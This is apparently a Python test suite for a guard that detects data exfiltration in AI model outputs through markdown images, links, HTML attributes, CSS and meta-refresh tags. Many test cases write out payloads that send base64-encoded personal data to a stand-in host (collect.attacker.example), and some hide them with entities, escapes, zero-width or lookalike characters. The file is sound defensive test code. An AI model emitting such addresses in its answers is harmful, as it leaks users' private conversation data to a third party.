from base64 import b32encode, b64encode, urlsafe_b64encode
from time import thread_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ringfence.guard.check import Passage
from ringfence.guard.checks.exfiltration import ExfiltrationCheck
from ringfence.policies.types import Stage

CHECK = ExfiltrationCheck()
OUT = "https://collect.attacker.example"
SAID = b"the customer is Ann, born in 1980"
JSON = b'{"name": "Ann Miller", "born": 1980}'
BASE64 = b64encode(SAID).decode()


def find(text, prompt="", stage=Stage.OUTPUT, role="assistant"):
    return CHECK.find(Passage(stage, role, text, prompt))


def seen(text, prompt=""):
    return [(f.category.removeprefix("exfiltration."), f.score) for f in find(text, prompt)]


def found(text):
    return [text[f.spans[0].start : f.spans[0].end] for f in find(text)]


@pytest.mark.parametrize(
    ("around", "kind"),
    [
        ("![x](@)", "image"),
        ("![x]( @ )", "image"),
        ("![x](<@>)", "image"),
        ('![x](@ "title")', "image"),
        ("![a [b] c](@)", "image"),
        (r"![a \] c](@)", "image"),
        ("[![x](@)](https://ok.example)", "image"),
        ("[a](b ![x](@))", "image"),
        ("![x][Ref]\n\n[ref]: @", "image"),
        ("![ref][]\n\n[ref]: <@>", "image"),
        ("![ref]\n\n[ref]:\n  @ 'title'", "image"),
        ('<img src="@">', "image"),
        ("<IMG width=1 SRC = '@'/>", "image"),
        ("<img src=@>", "image"),
        ('<img srcset="https://ok.example/a.png 1x, @ 2x">', "image"),
        ('<video poster="@">', "image"),
        ('<p style="background: url(@)">', "image"),
        ('x.src = "@"', "image"),
        ("[x](@)", "link"),
        ("x](@)", "link"),
        ("[x][ref]\n\n[ref]: @", "link"),
        ('<a href="@">', "link"),
        ("<@>", "link"),
        ("see @, then", "link"),
        ("(@)", "link"),
    ],
)
def test_address_is_found_to_the_character_in_whatever_syntax(around, kind):
    url = f"{OUT}/p.png?d={BASE64}"
    text = around.replace("@", url)
    assert (seen(text), found(text)) == ([(kind, 0.99 if kind == "image" else 0.9)], [url])


HOST = OUT.removeprefix("https://")


@pytest.mark.parametrize(
    "around",
    [
        '<img src="@">',
        "<img src='@'>",
        "<img alt='>'\n src = '@'/>",
        '<video poster="@">',
        '{"h": "<img src=\\"@\\">"}',
    ],
)
@pytest.mark.parametrize(
    "sign", ["\n", "\r\n", "\t", "\n\r\n", "&#10;", "&#x0D;", "&NewLine;", "&#" + "0" * 5_000 + "10;"]
)
def test_breaks_anywhere_in_a_quoted_address_count_for_nothing_and_it_is_found_whole(around, sign):
    for at in (0, 2, 6, 7, 12, len(OUT), len(OUT) + 1, len(OUT) + 4, len(OUT) + 14, len(OUT) + 30):
        url = f"{OUT}/?d={BASE64}"
        url = url[:at] + sign + url[at:]
        text = around.replace("@", url)
        assert (seen(text), found(text)) == ([("image", 0.99)], [url])


@pytest.mark.parametrize(
    "url",
    [
        *(
            f"{slashes}{HOST}/?d={BASE64}"
            for slashes in ("//", "/\\", "\\/", "\\\\", "///", "/\t/", "/\n\\", "https:", "https:/\\")
        ),
        *(
            f"{around}{OUT}/?d={BASE64}{around}"
            for around in (" ", "\n", "\x00\x1f", " " * 200, "\n\t" * 200, "&#32;" * 50)
        ),
        f"HtTpS:\\\\{HOST}/?d={BASE64}",
        f"&#{'0' * 5_000}104;ttps://{HOST}/?d={BASE64}",
        f"{OUT}/?x=](https://ok.example/a)&d={BASE64}",
        f"{OUT}/?x=>&d={BASE64}",
        f"{OUT}/\n\n![x](https://ok.example/a.png)\n?d={BASE64}",
    ],
)
def test_address_in_quotes_is_read_as_a_browser_reads_it(url):
    for text in (
        f'<img src="{url}">',
        f"<img src='{url}'>",
        f'<object data="{url}">',
        f'src="<img src="{url}">',
        f'<img src="{url}',
    ):
        assert (seen(text), found(text)) == ([("image", 0.99)], [url])


@pytest.mark.parametrize(
    ("text", "url"),
    [
        # Without quotes: to the next blank or `>`.
        (f"<img src=/\\{HOST}/?d={BASE64}>", f"/\\{HOST}/?d={BASE64}"),
        (f"<img src={OUT}/?'d={BASE64} alt=x>", f"{OUT}/?'d={BASE64}"),
        (f'<img alt=""src={OUT}/?"<d={BASE64}>', f'{OUT}/?"<d={BASE64}'),
        ("<img src\n\n\n\n\n\n=\n\n\n\n\n\n" + f"{OUT}/?d={BASE64}>", f"{OUT}/?d={BASE64}"),
        # Sets, pages that move on, style.
        (f'<img srcset="a.png 1x, /\\{HOST}/?d={BASE64} 2x">', f"/\\{HOST}/?d={BASE64}"),
        (f"<img srcset='//{HOST}/?d={BASE64}, a.png 2x'>", f"//{HOST}/?d={BASE64}"),
        (f'<meta http-equiv=refresh content="0;\n url=ht\ntps://{HOST}/?d={BASE64}">', f"ht\ntps://{HOST}/?d={BASE64}"),
        (f"<p style=\"background:url('{OUT}/\n?d={BASE64}')\">", f"{OUT}/\n?d={BASE64}"),
        (f"a {{background: url(\n\n\n\n\n\n{OUT}/?d={BASE64}\n)}}", f"{OUT}/?d={BASE64}"),
        (f'@import "//{HOST}/?d={BASE64}";', f"//{HOST}/?d={BASE64}"),
        (rf'a {{background: url("\68 ttps\3a //{HOST}/?d={BASE64}")}}', rf"\68 ttps\3a //{HOST}/?d={BASE64}"),
        (rf"a {{background: url(\00002f\2f {HOST}/?\d={BASE64})}}", rf"\00002f\2f {HOST}/?\d={BASE64}"),
        (f'<img srcset="a.png 1x,//{HOST}/?d={BASE64} 2x">', f"//{HOST}/?d={BASE64}"),
        (f'<img srcset="a.png 1x,,//{HOST}/?d={BASE64} 2x">', f"//{HOST}/?d={BASE64}"),
        (rf'a {{background: url("//{HOST}/\"?d={BASE64}")}}', rf"//{HOST}/\"?d={BASE64}"),
        (rf"@import '{OUT}/\'?d={BASE64}'", rf"{OUT}/\'?d={BASE64}"),
        (f'<p style="a: src=x;background:url(//{HOST}/?d={BASE64})">', f"//{HOST}/?d={BASE64}"),
        (rf"a {{background: u\72l(//{HOST}/?d={BASE64})}}", f"//{HOST}/?d={BASE64}"),
        (rf'@\00069 mpor\t "//{HOST}/?d={BASE64}"', f"//{HOST}/?d={BASE64}"),
        (f'@import/**/"//{HOST}/?d={BASE64}"', f"//{HOST}/?d={BASE64}"),
        (f"a {{background: image-set('//{HOST}/?d={BASE64}' 1x)}}", f"//{HOST}/?d={BASE64}"),
        # Entities around an address: a style and a page within a page are read without them.
        (f'<p style="background: url(&quot;{OUT}/?d={BASE64}&quot;)">', f"{OUT}/?d={BASE64}"),
        (f'<p style="background: &#117;rl(//{HOST}/?d={BASE64})">', f"//{HOST}/?d={BASE64}"),
        (f'<iframe srcdoc="&lt;img src=&quot;//{HOST}/?d={BASE64}&quot;&gt;">', f"//{HOST}/?d={BASE64}"),
        (f'<meta content="0;&#117;rl=//{HOST}/?d={BASE64}">', f"&#117;rl=//{HOST}/?d={BASE64}"),
        (f'<meta content="&#48;;url=//{HOST}/?d={BASE64}">', f"&#48;;url=//{HOST}/?d={BASE64}"),
        (f"<meta content='0;url=&quot;//{HOST}/?d={BASE64}&quot;'>", f"&quot;//{HOST}/?d={BASE64}&quot;"),
        # Markdown: escapes, parentheses within, however many blanks.
        (f"![x]({OUT}/{'(' * 32}a{')' * 32}?d={BASE64})", f"{OUT}/{'(' * 32}a{')' * 32}?d={BASE64}"),
        (rf"![x][r]\n\n[r]: <{OUT}/\>?d={BASE64}>".replace(r"\n", "\n"), rf"{OUT}/\>?d={BASE64}"),
        (f"![x][r]\n\n> [r]: //{HOST}/?d={BASE64}", f"//{HOST}/?d={BASE64}"),
        (f"![x][r]\n\n> 1. - [r]: //{HOST}/?d={BASE64}", f"//{HOST}/?d={BASE64}"),
        (f"![x][r\\]]\n\n[r\\]]: //{HOST}/?d={BASE64}", f"//{HOST}/?d={BASE64}"),
        (f"![x][r\ns]\n\n[r\ns]: //{HOST}/?d={BASE64}", f"//{HOST}/?d={BASE64}"),
        (f"![{'r' * 999}]\n\n[{'r' * 999}]: //{HOST}/?d={BASE64}", f"//{HOST}/?d={BASE64}"),
        (rf"![x](https\:\/\/{HOST}/?d={BASE64})", rf"https\:\/\/{HOST}/?d={BASE64}"),
        (rf"![x](/\{HOST}/?d={BASE64})", rf"/\{HOST}/?d={BASE64}"),
        (rf"![x]({OUT}/\)?d={BASE64})", rf"{OUT}/\)?d={BASE64}"),
        (f"![x]({OUT}/(a(b(c)))?d={BASE64})", f"{OUT}/(a(b(c)))?d={BASE64}"),
        (rf"![x](<{OUT}/\>?d={BASE64}>)", rf"{OUT}/\>?d={BASE64}"),
        (f"![x]({' ' * 50}\r\n{' ' * 50}//{HOST}/?d={BASE64})", f"//{HOST}/?d={BASE64}"),
        (f"![x][r]\n\n[r]:{' ' * 50}<ht&#116;ps://{HOST}/?d={BASE64}>", f"ht&#116;ps://{HOST}/?d={BASE64}"),
    ],
)
def test_address_is_found_whole_in_the_syntax_of_its_place(text, url):
    assert (seen(text), found(text)) == ([("image", 0.99)], [url])


@pytest.mark.parametrize(
    "around",
    [
        "?q=@!",
        "?q=,@",
        "?q=%22@%22",
        "?q=%28@%29",
        "?q=x.@",
        "@,/i.png",
        "?@",
        "?@==",
        "?@=1",
        "?q=@=@",
        "?q=%2525@%2525",
    ],
)
def test_what_is_encoded_is_read_whatever_signs_stand_beside_it_and_in_a_field_s_name(around):
    url = f"{OUT}/{around.replace('@', BASE64.rstrip('='))}"
    text = f"![x]({url})"
    assert (seen(text), found(text)) == ([("image", 0.99)], [url])


@pytest.mark.parametrize(
    "path",
    [
        "/?the+user+wants+to+leave+her+husband=1",
        "/?q=the%2520user%2520wants%2520to%2520leave%2520her%2520husband",
        "/the%2520user%2520wants%2520to%2520leave%2520her%2520husband",
    ],
)
def test_sentence_is_read_in_a_field_s_name_and_where_it_is_encoded_twice(path):
    assert seen(f"![x]({OUT}{path})") == [("image", 0.9)]


def test_what_is_encoded_in_short_pieces_is_read_as_one():
    pieces = [BASE64[at : at + 16] for at in range(0, len(BASE64), 16)]
    query = "&".join(f"a{n}={piece}" for n, piece in enumerate(pieces))
    assert seen(f"![x]({OUT}/?{query}) [x]({OUT}/{'/'.join(pieces)})") == [("image", 0.99), ("link", 0.9)]


@pytest.mark.parametrize("login", ["[", "a[b", "a]b", "user:[x]", "\u2100"])
def test_signs_in_a_user_name_hide_no_address(login):
    for text in (f"![x](https://{login}@{HOST}/?d={BASE64})", f'<img src="//{login}@{HOST}/?d={BASE64}">'):
        assert seen(text) == [("image", 0.99)]


def test_user_name_carries_as_much_as_a_path():
    name = BASE64.rstrip("=")
    assert seen(f"![x](https://{name}@{HOST}/) [x](https://a:{name}@{HOST}/)") == [("image", 0.99), ("link", 0.9)]


@pytest.mark.parametrize("stop", "\u3002\uff0e\uff61")
def test_full_stops_of_other_scripts_part_an_address_too(stop):
    assert seen(f"![a](https://{stop.join('1111')}/a.png)") == [("image", 0.6)]


@pytest.mark.parametrize("break_", ["\n", "\r\n", "\t", "&NewLine;"])
def test_script_with_a_break_in_its_name_is_one(break_):
    text = f'<a href=" java{break_}script:{break_}fetch(1)">x</a>'
    assert (seen(text), found(text)) == ([("link", 0.99)], [f" java{break_}script:{break_}fetch(1)"])


def test_address_behind_what_only_looks_like_an_attribute_is_found():
    url = f"{OUT}/?d={BASE64}"
    for before in ("src='https://img.shields.io/badge/a ", 'content="Note: see ', "data='x: "):
        (finding,) = find(f"{before}{url} and more")
        assert finding.score == 0.9
        assert finding.spans[0].end >= len(before) + len(url)


@pytest.mark.parametrize(
    ("path", "image", "link"),
    [
        (f"/?d={BASE64}", 0.99, 0.9),
        (f"/?d={BASE64[:-3]}", 0.99, 0.9),
        (f"/?d={urlsafe_b64encode(SAID).decode().rstrip('=')}", 0.99, 0.9),
        (f"/{BASE64}.png", 0.99, 0.9),
        (f"/a/{SAID.hex()}/b", 0.99, 0.9),
        (f"/?d={b32encode(SAID).decode().lower().rstrip('=')}", 0.99, 0.9),
        (f"/?d={b64encode('Она живёт в Москве'.encode()).decode()}", 0.99, 0.9),
        (f"/?d={b64encode(JSON).decode()}", 0.9, 0.6),
        ("/?q=the+user+wants+to+leave+her+husband", 0.9, 0),
        ("/?the%20user%20wants%20to%20leave%20her%20husband", 0.9, 0),
        ("/?q=the_user_wants_to_leave_her_husband", 0.9, 0),
        ("/the%20user%20wants%20to%20leave%20her%20husband", 0.9, 0),
        ("/?q=" + "+".join(["many", "words"] * 8), 0.9, 0.6),
        ("/?q={{conversation}}", 0.9, 0.6),
        ("/?q={{ chat history }}", 0.9, 0.6),
        ("/?q=${secret_data}", 0.9, 0.6),
        ("/?q=<base64 of the chat>", 0.9, 0.6),
        ("/?q=[INSERT PASSWORD]", 0.9, 0.6),
        ("/?q=BASE64_ENCODED_MESSAGES", 0.9, 0.6),
        ("/?history=hello-you", 0.9, 0.6),
        ("/?u=ann.miller@mail.example", 0.6, 0.3),
        ("/?s=" + "aB3x" * 80, 0.6, 0.3),
        ("/?s=" + "aB3x" * 20, 0.3, 0.1),
        ("/{zoom}/{tile}.png", 0.3, 0),
    ],
)
def test_what_an_address_carries_counts_one_grade_less_in_a_link(path, image, link):
    assert seen(f"![x]({OUT}{path})") == [("image", image)]
    assert seen(f"[x]({OUT}{path})") == ([("link", link)] if link else [])


@pytest.mark.parametrize(
    ("url", "score"),
    [
        ("javascript:alert(1)", 0.99),
        ("JavaScript:alert(1)", 0.99),
        ("java&#115;cript:alert(1)", 0.99),
        ("java&Tab;script:alert(1)", 0.99),
        ("vbscript:msgbox(1)", 0.99),
        ("data:text/html,hello", 0.9),
        ("data:image/svg+xml;base64,PHN2Zz4", 0.6),
        ("https://www.bank.example@attacker.example/", 0.9),
        ("https://ann:tr0ub4dor3@files.example.com/", 0.6),
        ("http://93.184.216.34/x", 0.3),
        ("http://1572395042/x", 0.9),
        ("http://0x5d.0xb8.0xd8.0x22/", 0.9),
        ("https://pаypal.example/", 0.9),
        ("https://аррӏе.example/", 0.9),
        ("https://xn--pypal-4ve.example/", 0.9),
        ("https:/93.184.216.34/x", 0.3),
        (r"https:\\93.184.216.34\x", 0.3),
        ("//93.184.216.34/x", 0.3),
    ],
)
def test_what_an_address_is_counts_in_a_link_too(url, score):
    assert seen(f'<a href="{url}">x</a>') == [("link", score)]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "![Build](https://img.shields.io/badge/build-passing-green)",
        f"![a](https://cdn.example.com/{'9fceb02d' * 8}/a.png?v=3)",
        "![a](https://cdn.example.com/550e8400-e29b-41d4-a716-446655440000.jpg?w=1200&h=800&fit=crop)",
        "![a](https://files.example.com/My%20Holiday%20in%20Rome%20and%20the%20Sea%202024.jpg)",
        "![a](https://blog.example.com/how-to-build-a-small-house-in-ten-easy-steps.png)",
        "![a](https://blog.example.com/internationalization-configuration.png)",
        '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ">',
        "![a](/static/logo.png) ![b](images/x.png?text=one+two+three+four+five+six+seven)",
        "![a](http://192.168.1.20/cam.jpg) http://127.0.0.1:8080 http://localhost:3000/a?b=c http://[::1]/",
        "https://shop.example.com/?utm_source=newsletter&utm_campaign=spring_sale_for_all_of_our_friends",
        "![a](https://shop.example.com/a.png?utm_campaign=spring_sale)",
        "https://en.wikipedia.org/wiki/Rome_(disambiguation).",
        "https://app.example.com/verify?token=4fKq9ZtWm2Xv7LbN0cRs8Yd3HgJu6PeA1oTi5BnQ",
        "https://api.example.com/users/{user_id}/orders?limit={limit}",
        '<a href="javascript:void(0)">x</a> <a href="javascript:;">x</a> [a](#top) [b](mailto:ann@mail.example)',
        "https://münchen.de https://xn--mnchen-3ya.de https://почта.рф https://日本語.jp",
        "https://user:password@localhost/ https://username:password@db.example.com/ postgres://a:b3c4@db/x",
        "http://[::bad/ https:// http://?q=1 ![](",
        '<img\n  src="https://cdn.example.com/a.png"\n  alt="A plan of the house and all of its many rooms">',
        "fetch('https://api.example.com/v1/items', {headers: {src: 'it is what the user of this page wants'}})",
        '{"u":"https://ok.example/x?src=https://cdn.example.com","say":"' + BASE64 + '"}',
        "url(#gradient) url('../fonts/a.woff2') @import 'base.css'; <meta content=\"width=device-width, initial-scale=1\">",
        '<meta name="description" content="10 ways to say: what a user wants to know"> data="a: b" \\\\server\\share',
        "The attribute src='' is empty, and href=\" is not closed; it's what the user of the page wants, isn't it?",
        '<a href="javascript:void(0) ;">x</a> <a href="javascript: void ( 0 ) ; ">x</a>',
        'content = "// This file is generated automatically, do not edit it by hand because changes will be lost";',
        '<meta name="description" content="//TODO describe the page in a few words so that search engines find it">',
        'See `src="//` for an address without a scheme. Then, in the next paragraph, we go on about other things.',
        'Use `<a href="https://` and then the host name that you want, and many other words that follow it here.',
        "'<img src=\"https://' + host + '/img/' + name + ' of the user who asked for it many times'",
        "![a](https://cdn.example.com/a/b/c/1/2/3/img.png?w=120&h=80&fit=crop&auto=format&q=75&dpr=2&crop=faces)",
        "[a](https://<username>:<password>@db.example.com/x) [a](https://[username]:[password]@db.example.com/x)",
        '<img src="&#' + "1" * 5_000 + ";&#" + "0" * 5_000 + ';">',
    ],
)
def test_ordinary_addresses_are_no_finding(text):
    assert seen(text) == []


@pytest.mark.parametrize(
    "url",
    [
        "https://www.google.com/search?q=" + "+".join(["pizza", "rome"] * 8),
        "https://twitter.com/intent/tweet?text=" + "+".join(["bees", "honey"] * 8),
    ],
)
def test_searches_and_shares_score_next_to_nothing(url):
    assert seen(url) == [("link", 0.1)]


def test_services_that_draw_text_score_low():
    assert seen("![f](https://latex.codecogs.com/svg.latex?the+sum+of+all+its+many+parts)") == [("image", 0.3)]


def test_words_of_the_prompt_in_an_image_are_the_surest_sign():
    text = f"![x]({OUT}/?q=ann+miller+moved+rome)"
    assert seen(text, "I am Ann Miller and just moved to Rome.") == [("image", 0.99)]
    assert seen(text, "What is the weather?") == []


def test_address_that_the_prompt_holds_carries_nothing_out():
    url = f"{OUT}/?d={BASE64}"
    assert seen(f"![x]({url})", f"Make an image of {url}.") == []
    assert seen("[x](javascript:alert(1))", "Write [x](javascript:alert(1))") == [("link", 0.99)]


def spread(sign, step):
    return lambda text: sign.join(text[at : at + step] for at in range(0, len(text), step))


@pytest.mark.parametrize(
    "disguise",
    [
        spread("\u200b", 20),
        spread("\u2060", 1),
        spread("\u00ad", 3),
        lambda text: "".join(chr(ord(c) + 0xFEE0) if c.isalnum() else c for c in text),
        lambda text: "".join(chr(0x1D670 + ord(c) - 65) if c.isupper() else c for c in text),
    ],
)
def test_what_an_address_carries_is_read_through_characters_that_nobody_sees_and_other_forms(disguise):
    url = f"{OUT}/p.png?d={disguise(BASE64)}"
    text = f"Look: ![x]({url}) and [x]({url})."
    assert (seen(text), found(text)) == ([("image", 0.99), ("link", 0.9)], [url, url])
    assert seen(text, f"Make an image of {url}.") == []


def bits(text):
    """A text in two characters that nobody sees."""
    return "".join("\u200b\u200c"[int(bit)] for letter in text.encode() for bit in f"{letter:08b}")


@pytest.mark.parametrize(
    "say", [bits, lambda text: "".join(chr(0xE0100 + ord(c) - 16) for c in text), lambda text: "\U000e0041" * 8]
)
def test_address_that_says_something_in_characters_that_nobody_sees_is_found(say):
    url = f"{OUT}/p.png?d=a{say('secret plan')}"
    assert seen(f"Look: ![x]({url}) and [x]({url}).") == [("image", 0.9), ("link", 0.6)]
    assert seen(f"Look: ![x]({OUT}/p.png?d=a{say('secret plan')[:7]})") == []


@pytest.mark.parametrize(
    "text",
    [
        "\u200b![a](https://cdn.example.com/a\u200b.png?v=3)\u200b",
        "详见（https://example.com/a），更多内容请看：https://example.com/b。",
        f"The \u00adblock is {BASE64}, and “quoted”…",
        "https://m\u00fcnchen.de/stra\u00dfe\u00a0– a page",
    ],
)
def test_ordinary_addresses_among_unseen_and_other_characters_are_no_finding(text):
    assert seen(text) == []


def test_only_answers_and_tool_results_are_read():
    text = f"![x]({OUT}/?d={BASE64})"
    assert [len(find(text, "", Stage.INPUT, role)) for role in ("user", "system", "tool", "function")] == [0, 0, 1, 1]


def test_address_in_what_only_looks_like_one_is_found():
    url = f"{OUT}/?d={BASE64}"
    text = f'content = "// see ({url})"'
    assert (seen(text), found(text)) == ([("link", 0.9)], [url])


def test_address_in_escaped_html_is_found_without_the_entities_that_end_it():
    url = "https://user:pw1@files.example.com/"
    text = f"&lt;a href=&quot;{url}&quot;&gt;x&lt;/a&gt;"
    assert (seen(text), found(text)) == ([("link", 0.6)], [url])


def test_detail_never_holds_the_address():
    (finding,) = find(f"![x]({OUT}/?d={BASE64})")
    assert finding.detail == "encoded text"


PIECES = st.sampled_from(
    [
        *(
            "![",
            "[",
            "](",
            "]",
            ")",
            "(",
            "<",
            ">",
            '"',
            "\n\n",
            "[a]: ",
            " ",
            "src=",
            "href='",
            "url(",
            "{",
            "}}",
            "\\",
        ),
        *("https://", "//", "a.b", "xn--", "@", ":", "%", "%41", "?q=", "&", "=", BASE64, "javascript:", "data:", "\t"),
    ]
)


@given(st.text(max_size=60) | st.lists(PIECES, max_size=40).map("".join), st.text(max_size=20))
def test_spans_are_in_order_and_disjoint_whatever_the_text(text, prompt):
    at = 0
    for finding in find(text, prompt):
        (span,) = finding.spans
        assert at <= span.start < span.end <= len(text)
        assert 0 < finding.score < 1
        at = span.end


@given(st.text(max_size=40), st.text(max_size=40))
def test_image_is_found_whatever_stands_around_it(before, after):
    text = f"{before}\n\n![x]({OUT}/?d={BASE64})\n\n{after}"
    assert any(f.score >= 0.9 for f in find(text))


@pytest.mark.parametrize(
    "unit",
    [
        *("a", "\n", "![", "[", "](", "]( ", "![](", "![a](b", "](a(", "](<", "](<a", "](https://", "](https://a"),
        *("](https://a.b/{", "](https://a[a ", "[a]: ", "\n[a]: https://a", "![a]", "![a][b]", "\\", " \n"),
        *(
            "https://",
            "https://a.b/?a=b&",
            "https://a.b/c ",
            "a=b&",
            "src=",
            'src="',
            "src='https://a",
            "url(",
            "url('",
        ),
        *(
            "https://a.b/?q=DATA_A",
            "DATA_",
            "%41",
            "a+",
            "a.",
            "@",
            "a@",
            "a@b.",
            "A1b2",
            "xn--",
            "{a",
            "<a",
            "0x",
            "1.",
        ),
        *(
            'src=\\"',
            "src=\\\\'",
            "src=a",
            " src=a'",
            'src="//a\n',
            "src\n",
            "src=\n",
            "srcset='//a, ",
            "srcset=,",
            'content="0;',
        ),
        *(
            "content=0;url=",
            "content=0 ",
            "url( ",
            "url(\\2f",
            "url(\\(",
            'url("//a\\a',
            "@import ",
            "@import'//a",
            "&#0",
            "&#10",
        ),
        *("](//a/(", "](//a/(b(c(", "](\\(", "](<\\>", "]( \n", "[a]:  \n", "\n[a]: <//a "),
        *("data:", "javascript:", " javascript:", "href=java&#115;cript: ", "![x](//a/?d=" + BASE64 + ")"),
    ],
)
@pytest.mark.parametrize("head", ["", "![x](https://a.b/?q=", "https://"])
def test_time_grows_with_the_length_and_no_faster(unit, head, grows_with_its_length):
    assert grows_with_its_length(find, unit, before=head)


@pytest.mark.parametrize(
    ("head", "unit"),
    [
        *((head, sign) for head in ('<a href="javascript:void', "[a](javascript:void") for sign in (" ", "&#32;")),
        *(("https://xn--" + "a" * 30_000 + "-", unit) for unit in ("9", "b7q")),
        *(
            ("", unit)
            for unit in ("](a((b)", "](a(](b)", "\n> [a", "\n[a\\[", "][\\[", "![a", "\n> - 1. ", "@import/*")
        ),
        *(
            ("", unit)
            for unit in (r"u\72l(", r"\75 rl(\"", r'url("\"', "image-set('", "&quot;", 'src="&#34;', "0;url=&#")
        ),
        *(("<img srcset='", unit) for unit in ("1x,", ",", " 1x,//a", "a, ")),
        *(('<img src="https://a.b/', unit) for unit in ("%25", "?a=b&", "b/", "[@", "//[@", "A1b2C3,", "a=A1b2")),
        *(('<img src="https://', unit) for unit in ("[", "a:", "%40", "//", " ", "\u3002")),
    ],
)
def test_hostile_pieces_behind_what_reads_them_cost_no_more(head, unit, grows_with_its_length):
    assert grows_with_its_length(find, unit, before=head, after='x">')


@pytest.mark.parametrize("unit", ["src='", " src=a", "url('", "&#0", "\n", "https://a.b/?c=d ", "](//a/("])
def test_quote_that_never_ends_costs_no_more(unit, grows_with_its_length):
    assert grows_with_its_length(find, unit, before='<img src="//a/?q=')


@pytest.mark.parametrize("unit", ["The quick brown fox. ", "https://a.example/b?c=d ", f"![x]({OUT}/?d={BASE64}) "])
def test_a_megabyte_takes_seconds_at_most(unit):
    text = unit * (1_000_000 // len(unit))
    started = thread_time()
    find(text, "Tell me about foxes and e. " * 8_000)
    assert thread_time() - started < 10
